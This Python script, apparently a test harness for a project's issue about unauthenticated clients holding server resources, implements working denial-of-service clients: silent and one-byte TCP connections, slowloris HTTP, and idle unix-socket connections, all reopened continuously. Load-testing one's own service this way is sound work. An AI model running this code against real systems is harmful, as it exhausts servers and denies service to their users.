#!/usr/bin/python3
"""Unauthenticated clients that hold server resources (issue 10), standard
library only. Each keeps N connections open for as long as it runs: a
connection the server closes or resets is counted and opened again (at most
RATE new connections a second), so the pressure never lets up.

  silent HOST PORT N [SRC,SRC...]   TCP connections that never send a byte,
                                    spread over the given source addresses
  onebyte HOST PORT N [SRC,...]     TCP connections that send one byte (a TLS
                                    record's first, 0x16) and nothing more
  slowloris HOST PORT N [SRC,...]   HTTP requests that never finish: the
                                    request line and one header, then one
                                    more header line every 2 s
  unix PATH N                       unix-socket connections that never send
                                    a byte (the Workload API socket)

Every second it writes "open=N opened=N closed=N failed=N" to STATUS (the
environment variable ATTACK_STATUS, default: stdout); SIGTERM ends it.
"""
import os
import selectors
import signal
import socket
import sys
import time

RATE = float(os.environ.get("ATTACK_RATE", "500"))
STATUS = os.environ.get("ATTACK_STATUS")


class Attack:
    def __init__(self, kind, target, n, sources):
        self.kind, self.target, self.n = kind, target, n
        self.sources = sources or [None]
        self.sel = selectors.DefaultSelector()
        self.socks = {}  # socket -> time of the last byte sent
        self.opened = self.closed = self.failed = 0
        self.next_src = 0

    def connect(self):
        if self.kind == "unix":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(self.target)
        else:
            s = socket.socket(socket.AF_INET6 if ":" in self.target[0] else socket.AF_INET)
            src = self.sources[self.next_src % len(self.sources)]
            self.next_src += 1
            if src:
                s.bind((src, 0))
            s.settimeout(5)
            s.connect(self.target)
        s.setblocking(False)
        if self.kind == "slowloris":
            s.send(b"GET /healthz HTTP/1.1\r\nHost: ward\r\n")
        elif self.kind == "onebyte":
            s.send(b"\x16")
        self.sel.register(s, selectors.EVENT_READ)
        self.socks[s] = time.monotonic()
        self.opened += 1

    def drop(self, s):
        self.sel.unregister(s)
        del self.socks[s]
        s.close()
        self.closed += 1

    def top_up(self, budget):
        while len(self.socks) < self.n and budget > 0:
            budget -= 1
            try:
                self.connect()
            except OSError:
                self.failed += 1
                return

    def trickle(self):
        now = time.monotonic()
        for s, last in list(self.socks.items()):
            if self.kind == "slowloris" and now - last >= 2:
                try:
                    s.send(b"X-a: b\r\n")
                    self.socks[s] = now
                except OSError:
                    self.drop(s)

    def status(self):
        line = "open=%d opened=%d closed=%d failed=%d\n" % (
            len(self.socks), self.opened, self.closed, self.failed)
        if STATUS:
            with open(STATUS + ".tmp", "w") as f:
                f.write(line)
            os.replace(STATUS + ".tmp", STATUS)
        else:
            sys.stdout.write(line)
            sys.stdout.flush()

    def run(self):
        last_status = last_fill = time.monotonic()
        while True:
            now = time.monotonic()
            self.top_up(int((now - last_fill) * RATE) or (1 if not self.socks else 0))
            last_fill = now
            for key, _ in self.sel.select(timeout=0.05):
                try:
                    if not key.fileobj.recv(4096):
                        self.drop(key.fileobj)
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(key.fileobj)
            self.trickle()
            if now - last_status >= 1:
                self.status()
                last_status = now


def main():
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    kind = sys.argv[1]
    if kind == "unix":
        attack = Attack(kind, sys.argv[2], int(sys.argv[3]), None)
    else:
        sources = sys.argv[5].split(",") if len(sys.argv) > 5 else None
        attack = Attack(kind, (sys.argv[2], int(sys.argv[3])), int(sys.argv[4]), sources)
    attack.run()


if __name__ == "__main__":
    main()
